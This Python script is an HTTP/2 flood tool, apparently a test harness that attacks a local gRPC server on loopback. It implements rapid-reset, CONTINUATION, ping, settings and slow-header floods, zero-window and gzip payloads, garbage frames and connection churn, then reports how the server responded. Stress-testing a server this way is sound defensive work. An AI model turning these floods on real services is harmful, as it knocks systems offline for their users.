"""One attacker over raw HTTP/2 frames, as a separate process: python flood.py KIND PORT CONNECTIONS
SECONDS SEED [--source ADDRESS] [--ca FILE] [--token FILE] [--message FILE]
[--until NAME COUNT]

It floods 127.0.0.1:PORT from another loopback address, with TLS if an authority is given, and opens
each connection again that was closed. It ends after SECONDS, or once it has counted COUNT of NAME. At the end it prints a JSON object: what it sent, and what
the other side did with it. Nothing that it sends depends on what it receives, except flow control.
"""

from __future__ import annotations

import argparse
import collections
import itertools
import json
import os
import random
import select
import socket
import ssl
import struct
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import hpack

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
FRAME_BYTES = 16384
CALLS_A_CHUNK = 50
SEARCH = "/nearfield.v1.Retrieval/Search"
# An attacker that is cut off tries again this often for each of its connections.
RECONNECTS_PER_SECOND = 20


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def header_block(*more: tuple[str, str]) -> bytes:
    """Returns the headers of a call in a form that changes no table, so that it can be sent again."""
    headers = [(":method", "POST"), (":scheme", "https"), (":path", SEARCH), (":authority", "flood"),
               ("content-type", "application/grpc"), ("te", "trailers"), *more]
    return bytes(hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*each) for each in headers], huffman=False))


def calls(*parts: tuple[int, int, bytes]) -> Iterator[bytes]:
    """Yields calls without end; each consists of these frames (kind, flags, payload)."""
    stream = 1
    while True:
        chunk = bytearray()
        for _ in range(CALLS_A_CHUNK):
            for kind, flags, payload in parts:
                chunk += frame(kind, flags, stream, payload)
            stream += 2
        yield bytes(chunk)


def cancelled_later(headers: bytes, data: bytes) -> Iterator[bytes]:
    previous: range = range(0)
    for first in itertools.count(1, 2 * CALLS_A_CHUNK):
        chunk = b"".join(frame(RST_STREAM, 0, stream, struct.pack(">I", 8)) for stream in previous)
        previous = range(first, first + 2 * CALLS_A_CHUNK, 2)
        yield chunk + b"".join(frame(HEADERS, END_HEADERS, stream, headers) + frame(DATA, END_STREAM, stream, data) for stream in previous)


def trickle(content: bytes) -> Iterator[bytes]:
    """Yields one byte, then nothing for a while."""
    for byte in content:
        yield bytes([byte])
        end = time.monotonic() + 0.5
        while time.monotonic() < end:
            yield b""


def once(content: bytes) -> Iterator[bytes]:
    yield content
    while True:
        yield b""


def garbage(rng: random.Random) -> Iterator[bytes]:
    """Yields frames with random content, most of them of a known kind, and at last random bytes."""
    for _ in range(rng.randrange(1, 200)):
        yield frame(rng.randrange(11), rng.randrange(256) & rng.choice([255, 13, 5]), rng.randrange(8), rng.randbytes(rng.randrange(60)))
    yield rng.randbytes(1000)


def content(kind: str, token: list[tuple[str, str]], message: bytes, rng: random.Random) -> Iterator[bytes]:
    """Returns what one connection sends after its preface."""
    short = header_block(*token)
    data = struct.pack(">BI", 0, len(message)) + message
    cancel = (RST_STREAM, 0, struct.pack(">I", 8))
    if kind == "headers":  # 60 KB of metadata for each call
        block = header_block(*((f"x-{i}", "v" * 4000) for i in range(15)))
        first, rest = block[:FRAME_BYTES], [block[at:at + FRAME_BYTES] for at in range(FRAME_BYTES, len(block), FRAME_BYTES)]
        return calls((HEADERS, END_STREAM, first), *((CONTINUATION, 0, each) for each in rest), (CONTINUATION, END_HEADERS, b""))
    if kind == "continuations":  # one header block that never ends
        filler = header_block(*((f"x-{i}", "v" * 4000) for i in range(4)))[:FRAME_BYTES]
        return iter(lambda: frame(CONTINUATION, 0, 1, filler), None)
    if kind == "empty_continuations":
        return iter(lambda: frame(CONTINUATION, 0, 1) * 1000, None)
    if kind == "resets":
        return calls((HEADERS, END_HEADERS, short), cancel)
    if kind == "cancels":  # whole calls; each is cancelled when the next ones are on their way
        return cancelled_later(short, data)
    if kind == "unread":  # whole calls, as many as a connection may have, and no window for their replies
        return once(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)) + b"".join(
            frame(HEADERS, END_HEADERS, stream, short) + frame(DATA, END_STREAM, stream, data) for stream in range(1, 201, 2)))
    if kind == "pings":
        return iter(lambda: frame(PING, 0, 0, bytes(8)) * 500, None)
    if kind == "settings":
        return iter(lambda: frame(SETTINGS, 0, 0) * 500, None)
    if kind == "slow_headers":
        return trickle(frame(HEADERS, END_HEADERS, 1, short))
    if kind == "slow_bodies":
        return once(frame(HEADERS, END_HEADERS, 1, short) + frame(DATA, 0, 1, data[:2]))
    if kind == "gzip":
        packed = struct.pack(">BI", 1, len(message)) + message
        return once(frame(HEADERS, END_HEADERS, 1, header_block(*token, ("grpc-encoding", "gzip"))) + b"".join(
            frame(DATA, END_STREAM if at + FRAME_BYTES >= len(packed) else 0, 1, packed[at:at + FRAME_BYTES])
            for at in range(0, len(packed), FRAME_BYTES)))
    if kind == "garbage":
        return garbage(rng)
    raise ValueError(kind)


class Connection:
    """One connection to the victim; `seen` counts what came back."""

    def __init__(self, args: argparse.Namespace, sent: Iterator[bytes], seen: collections.Counter) -> None:
        self.seen = seen
        self.unsent = PREFACE + frame(SETTINGS, 0, 0)
        if args.kind.endswith("continuations"):
            self.unsent += frame(HEADERS, 0, 1, header_block())
        self.content = sent
        self.received = bytearray()
        self.headers = hpack.Decoder()
        self.socket = dial(args)
        self.socket.setblocking(False)

    def pump(self) -> None:
        """Sends and receives what is possible. Raises OSError or EOFError once the connection is closed."""
        try:
            if self.unsent:
                count = self.socket.send(self.unsent)
                self.seen["bytes_sent"] += count
                self.unsent = self.unsent[count:]
            if not self.unsent:
                self.unsent = next(self.content, b"")
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        try:
            while data := self.socket.recv(1 << 16):
                self.received += data
                self.parse()
            raise EOFError
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass

    def parse(self) -> None:
        while len(self.received) >= 9:
            size = int.from_bytes(self.received[:3], "big")
            if len(self.received) < 9 + size:
                return
            kind, payload = self.received[3], bytes(self.received[9:9 + size])
            del self.received[:9 + size]
            if kind == GOAWAY:
                self.seen[f"goaway_{int.from_bytes(payload[4:8], 'big')}"] += 1
            elif kind == RST_STREAM:
                self.seen[f"stream_reset_{int.from_bytes(payload, 'big')}"] += 1
            elif kind == HEADERS:
                status = dict(self.headers.decode(payload)).get("grpc-status")
                if status is not None:
                    self.seen[f"grpc_status_{status}"] += 1


def dial(args: argparse.Namespace) -> socket.socket:
    plain = socket.create_connection(("127.0.0.1", args.port), timeout=5, source_address=(args.source, 0))
    if not args.ca:
        return plain
    context = ssl.create_default_context(cafile=args.ca)
    context.set_alpn_protocols(["h2"])
    try:
        return context.wrap_socket(plain, server_hostname="127.0.0.1")
    except OSError:
        plain.close()
        raise


def churn(args: argparse.Namespace, seen: collections.Counter, running: Callable[[], bool]) -> None:
    """Opens and closes connections. One in ten makes the handshake, and so learns whether it was refused."""
    while running():
        try:
            for _ in range(9):
                socket.create_connection(("127.0.0.1", args.port), timeout=5, source_address=(args.source, 0)).close()
            dial(args).close()
            seen["opened"] += 1
        except OSError:
            seen["refused"] += 1


def flood(args: argparse.Namespace, seen: collections.Counter, running: Callable[[], bool]) -> None:
    rng = random.Random(args.seed)
    message = Path(args.message).read_bytes() if args.message else b""
    token = [("authorization", "Bearer " + Path(args.token).read_text().strip())] if args.token else []
    live: list[Connection] = []
    missing, reconnect_at = args.connections, 0.0
    while running():
        if missing and time.monotonic() >= reconnect_at:
            try:
                live.append(Connection(args, content(args.kind, token, message, rng), seen))
                missing -= 1
                seen["opened"] += 1
            except OSError:
                seen["refused"] += 1
            if seen["opened"] >= args.connections:
                reconnect_at = time.monotonic() + 1 / (RECONNECTS_PER_SECOND * args.connections)
        for each in list(live):
            try:
                each.pump()
            except (OSError, EOFError):
                seen["ended"] += 1
                each.socket.close()
                live.remove(each)
                missing += 1
        select.select([each.socket for each in live], [each.socket for each in live if each.unsent], [], 0.02)
    seen["open"] = len(live)


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("kind")
    parser.add_argument("port", type=int)
    parser.add_argument("connections", type=int)
    parser.add_argument("seconds", type=float)
    parser.add_argument("seed", type=int)
    parser.add_argument("--source", default="127.0.0.2")
    parser.add_argument("--ca")
    parser.add_argument("--token")
    parser.add_argument("--message")
    parser.add_argument("--until", nargs=2, metavar=("NAME", "COUNT"))
    args = parser.parse_args()
    # An attacker has a machine of its own; here it shares the cores of its victims.
    os.nice(10)
    seen: collections.Counter = collections.Counter()
    end = time.monotonic() + args.seconds

    def running() -> bool:
        return time.monotonic() < end and not (args.until and seen[args.until[0]] >= int(args.until[1]))

    (churn if args.kind == "churn" else flood)(args, seen, running)
    print(json.dumps(seen), flush=True)


if __name__ == "__main__":
    main()
